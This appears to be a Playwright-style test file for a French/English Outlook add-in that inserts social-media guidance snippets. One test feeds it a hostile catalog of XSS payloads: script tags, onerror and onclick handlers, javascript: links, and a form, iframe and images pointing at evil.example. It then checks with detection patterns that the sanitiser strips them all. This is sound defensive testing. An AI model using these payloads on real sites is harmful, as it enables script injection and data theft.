"use strict";
const { test, before, after } = require("node:test");
const assert = require("node:assert/strict");
const fs = require("fs");
const path = require("path");
const { openBrowser, runAxe, ADDIN_ROOT } = require("./harness");

const CATALOG = JSON.parse(fs.readFileSync(path.join(ADDIN_ROOT, "catalog", "guidelines.json"), "utf8"));
// The README's picture is refreshed only on request (SCREENSHOT_TO_DOCS=1), so a test run leaves the tree clean.
const SCREENSHOT = process.env.SCREENSHOT_TO_DOCS === "1"
  ? path.resolve(ADDIN_ROOT, "..", "docs", "images", "outlook-pane.png")
  : path.join(ADDIN_ROOT, ".tmp", "outlook-pane.png");
const VALUES = {
  company: "Contoso",
  hashtag: "#ContosoLife",
  communicationsContact: "communication@contoso.com",
  socialPolicyUrl: "https://intranet.contoso.com/charte",
  trainingUrl: "https://learning.contoso.com/reseaux"
};
const ROAMING = { "socialtoolkit.placeholders": VALUES };

let browser;

before(async () => {
  browser = await openBrowser();
});

after(async () => {
  if (browser) {
    await browser.close();
  }
});

async function visibleTitles(page) {
  return page.$$eval("#results [role=option] .result-title", (nodes) => nodes.map((n) => n.textContent));
}

async function search(page, query) {
  await page.fill("#search", query);
  return visibleTitles(page);
}

async function selectSnippet(page, id) {
  await page.click(`#snippet-${id}`);
  await page.waitForFunction((expected) =>
    document.querySelector("#results").getAttribute("aria-activedescendant") === `snippet-${expected}`, id);
}

async function waitForInsertions(page, count) {
  await page.waitForFunction((n) => window.__fakeOffice.inserted.length >= n, count);
  return page.evaluate(() => window.__fakeOffice.inserted);
}

test("the pane follows Office's display language and switches with the FR/EN buttons", async () => {
  const { page } = await browser.openPane({ office: { displayLanguage: "en-GB" } });
  assert.equal(await page.getAttribute("html", "lang"), "en");
  assert.equal(await page.textContent("#app-title"), "Social media tips");
  await page.click("button[data-language=fr]");
  assert.equal(await page.getAttribute("html", "lang"), "fr");
  assert.equal(await page.textContent("#app-title"), "Conseils réseaux sociaux");
  assert.equal(await page.getAttribute("button[data-language=fr]", "aria-pressed"), "true");
  const saved = await page.evaluate(() => window.__fakeOffice.savedSettings);
  assert.equal(saved.at(-1)["socialtoolkit.language"], "fr");
  await page.close();
});

test("search in French finds the same tips with and without accents", async () => {
  const { page } = await browser.openPane({ office: { displayLanguage: "fr-FR" } });
  const all = await visibleTitles(page);
  assert.equal(all.length, CATALOG.snippets.length);
  const withAccents = await search(page, "réseau");
  const withoutAccents = await search(page, "reseau");
  assert.ok(withAccents.length > 0, "réseau finds something");
  assert.deepEqual(withoutAccents, withAccents);
  assert.ok(withoutAccents.includes("Les moments où l'on vous lit"));
  const phone = await search(page, "TELEPHONE");
  assert.ok(phone.includes("Publier depuis votre téléphone"));
  await page.selectOption("#category", "confidentiality");
  const filtered = await search(page, "photo");
  assert.deepEqual(filtered, ["Écrans, badges et arrière-plans"]);
  await search(page, "zzzz introuvable");
  assert.equal(await page.isVisible("#no-results"), true);
  await page.close();
});

test("inserting into an HTML body sends sanitised HTML with the placeholders filled", async () => {
  const { page } = await browser.openPane({ office: { bodyType: "html", roaming: ROAMING } });
  await selectSnippet(page, "share-team-success");
  await page.click("#insert");
  const [insertion] = await waitForInsertions(page, 1);
  assert.equal(insertion.coercionType, "html");
  assert.match(insertion.data, /^<p>Un projet livré/);
  assert.match(insertion.data, /#ContosoLife/);
  assert.doesNotMatch(insertion.data, /\{\{/);
  assert.match(await page.textContent("#status"), /inséré/);
  await page.close();
});

test("inserting into a plain-text body sends converted text", async () => {
  const { page } = await browser.openPane({ office: { bodyType: "text", roaming: ROAMING } });
  await selectSnippet(page, "what-stays-internal");
  await page.click("#insert");
  const [insertion] = await waitForInsertions(page, 1);
  assert.equal(insertion.coercionType, "text");
  assert.doesNotMatch(insertion.data, /[<>]/);
  assert.match(insertion.data, /^Ne publiez jamais :\n\n- des chiffres financiers/);
  assert.match(insertion.data, /demandez à communication@contoso\.com\.$/);
  await page.close();
});

test("a failed insertion is shown in the pane as an alert", async () => {
  const { page } = await browser.openPane({ office: { failSetSelectedData: true } });
  await page.click("#insert");
  await page.waitForFunction(() => document.querySelector("#alert").textContent.length > 0);
  const alert = await page.textContent("[role=alert]");
  assert.equal(alert, "Erreur : Impossible d'insérer le texte : The message is read-only (fake).");
  assert.equal(await page.isEnabled("#insert"), true);
  await page.close();
});

test("placeholder values set in the settings panel are saved to roaming settings", async () => {
  const { page } = await browser.openPane({ office: { displayLanguage: "en-US" } });
  await selectSnippet(page, "most-credible-voice");
  assert.match(await page.textContent("#preview-missing"), /Company name/);
  await page.click("#settings-toggle");
  await page.fill("#setting-company", "Fabrikam");
  await page.click("#settings-form button[type=submit]");
  await page.waitForFunction(() => window.__fakeOffice.savedSettings.length > 0);
  const saved = await page.evaluate(() => window.__fakeOffice.savedSettings.at(-1));
  assert.equal(saved["socialtoolkit.placeholders"].company, "Fabrikam");
  assert.match(await page.textContent("#preview-body"), /what Fabrikam is really like/);
  assert.equal(await page.isVisible("#preview-missing"), false);
  await page.close();
});

test("a hostile catalog inserts nothing dangerous and runs nothing", async () => {
  const hostileBody = [
    "<p>Bonjour<script>window.__pwned = 'script'</script></p>",
    "<img src=x onerror=\"window.__pwned = 'onerror'\">",
    "<a href=\"javascript:window.__pwned = 'link'\">clic</a>",
    "<img src=\"https://evil.example/pixel.png\">",
    "<style>body { display: none }</style>",
    "<iframe src=\"https://evil.example/frame\"></iframe>",
    "<form action=\"https://evil.example/steal\"><input name=q></form>",
    "<svg><image href=\"https://evil.example/svg.png\" /></svg>",
    "<p onclick=\"window.__pwned = 'click'\" style=\"background:url(https://evil.example/bg.png)\">Texte</p>",
    "<a href=\"https://example.org/ok\">lien sûr</a>"
  ].join("");
  const hostile = {
    ...CATALOG,
    snippets: [{
      id: "hostile",
      category: CATALOG.categories[0].id,
      tags: ["hostile"],
      title: { fr: "<img src=x onerror=\"window.__pwned = 'title'\">Piège", en: "Trap" },
      body: { fr: hostileBody, en: hostileBody }
    }]
  };
  const before = browser.outsideRequests.length;
  const { page, consoleMessages } = await browser.openPane({ catalog: hostile, office: { bodyType: "html" } });
  await selectSnippet(page, "hostile");
  await page.click("#preview-body p");
  await page.click("#insert");
  const [insertion] = await waitForInsertions(page, 1);

  for (const pattern of [/<script/i, /onerror/i, /onclick/i, /javascript:/i, /evil\.example/, /<style/i,
    /<iframe/i, /<form/i, /<img/i, /<svg/i, /style=/i]) {
    assert.doesNotMatch(insertion.data, pattern);
  }
  assert.match(insertion.data, /<a href="https:\/\/example\.org\/ok">lien sûr<\/a>/);
  const preview = await page.evaluate(() => {
    const body = document.querySelector("#preview-body");
    return {
      dangerous: body.querySelectorAll("script, img, iframe, style, form, svg, input").length,
      handlers: [...body.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).length,
      title: document.querySelector("#preview-title").textContent
    };
  });
  assert.equal(preview.dangerous, 0);
  assert.equal(preview.handlers, 0);
  assert.match(preview.title, /^<img src=x/, "the title is shown as text, never parsed");
  await page.waitForTimeout(100);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  const leaked = browser.outsideRequests.slice(before).filter((url) => url.includes("evil.example"));
  assert.deepEqual(leaked, []);
  assert.deepEqual(consoleMessages.filter((m) => /pageerror/.test(m)), []);
  /*
   * Chromium reports inline handlers and styles (script-src-attr, style-src-attr, style-src-elem) when
   * DOMPurify parses the dirty HTML in its inert document, where nothing runs or loads. A violation of
   * any other directive (img-src, frame-src, script-src-elem, connect-src...) would mean the live page
   * tried to load or run something that the sanitiser should have removed before the CSP had to.
   */
  const parseTimeOnly = new Set(["script-src-attr", "style-src-attr", "style-src-elem"]);
  const liveViolations = await page.evaluate(() => window.__cspViolations);
  assert.deepEqual(liveViolations.filter((directive) => !parseTimeOnly.has(directive)), []);
  await page.close();
});

test("axe-core finds no accessibility violation", async () => {
  const { page } = await browser.openPane({ office: { roaming: ROAMING } });
  await selectSnippet(page, "post-from-your-phone");
  let result = await runAxe(page);
  assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(" ")}`), []);
  await page.click("#settings-toggle");
  await page.click("button[data-language=en]");
  result = await runAxe(page);
  assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(" ")}`), []);
  await page.close();
});

test("keyboard only: Tab to the search box, type, arrow down the list, Enter inserts", async () => {
  const { page } = await browser.openPane({ office: { bodyType: "html", roaming: ROAMING } });
  const focusPath = [];
  for (let i = 0; i < 10 && focusPath.at(-1) !== "search"; i++) {
    await page.keyboard.press("Tab");
    focusPath.push(await page.evaluate(() => document.activeElement.id || document.activeElement.getAttribute("data-language")));
  }
  assert.deepEqual(focusPath, ["fr", "en", "settings-toggle", "search"]);
  await page.keyboard.type("critique");
  await page.keyboard.press("ArrowDown");
  assert.equal(await page.evaluate(() => document.activeElement.id), "results");
  const ring = await page.$eval("#results", (list) => getComputedStyle(list).outlineStyle);
  assert.equal(ring, "solid", "the focused list shows a focus ring");
  const titles = await visibleTitles(page);
  assert.ok(titles.length >= 2, "several tips mention criticism");
  await page.keyboard.press("ArrowDown");
  const active = await page.getAttribute("#results", "aria-activedescendant");
  assert.equal(await page.textContent(`#${active} .result-title`), titles[1]);
  await page.keyboard.press("Enter");
  const [insertion] = await waitForInsertions(page, 1);
  const expected = CATALOG.snippets.find((s) => s.title.fr === titles[1]);
  assert.ok(insertion.data.startsWith(expected.body.fr.slice(0, 20)));
  await page.keyboard.press("Tab");
  if (await page.evaluate(() => document.activeElement.id) === "preview-body") {
    await page.keyboard.press("Tab");
  }
  assert.equal(await page.evaluate(() => document.activeElement.id), "insert");
  await page.close();
});

test("1,000 snippets load and filter", async () => {
  const big = { ...CATALOG, snippets: [] };
  for (let i = 0; i < 1000; i++) {
    const source = CATALOG.snippets[i % CATALOG.snippets.length];
    big.snippets.push({ ...source, id: `${source.id}-${i}`, title: { fr: `${source.title.fr} n°${i}`, en: `${source.title.en} #${i}` } });
  }
  const started = Date.now();
  const { page } = await browser.openPane({ catalog: big });
  const loadedIn = Date.now() - started;
  assert.equal((await visibleTitles(page)).length, 1000);
  const filterStarted = Date.now();
  const filtered = await search(page, "reseau");
  const filteredIn = Date.now() - filterStarted;
  assert.ok(filtered.length > 0 && filtered.length < 1000);
  console.log(`1000 snippets: pane ready in ${loadedIn} ms, "reseau" filtered to ${filtered.length} in ${filteredIn} ms`);
  await page.close();
});

test("offline: a failed catalog fetch falls back to the cached copy", async () => {
  const online = await browser.openPane();
  assert.equal((await visibleTitles(online.page)).length, CATALOG.snippets.length);
  await online.page.close();

  const { page } = await browser.openPane({ catalog: "fail" });
  assert.equal(await page.getAttribute("body", "data-ready"), "true");
  assert.equal((await visibleTitles(page)).length, CATALOG.snippets.length);
  assert.match(await page.textContent("#status"), /Hors ligne/);

  await page.evaluate(() => localStorage.clear());
  await page.reload();
  await page.waitForSelector("body[data-ready]");
  assert.equal(await page.getAttribute("body", "data-ready"), "error");
  assert.match(await page.textContent("[role=alert]"), /aucune copie hors ligne/);
  await page.close();
});

test("screenshot of the pane with a tip previewed", async () => {
  const { page } = await browser.openPane({ office: { displayLanguage: "fr-FR", roaming: ROAMING } });
  await selectSnippet(page, "post-from-your-phone");
  await page.focus("#results");
  await page.evaluate(() => document.activeElement.blur());
  fs.mkdirSync(path.dirname(SCREENSHOT), { recursive: true });
  await page.screenshot({ path: SCREENSHOT });
  assert.ok(fs.statSync(SCREENSHOT).size > 10000);
  await page.close();
});
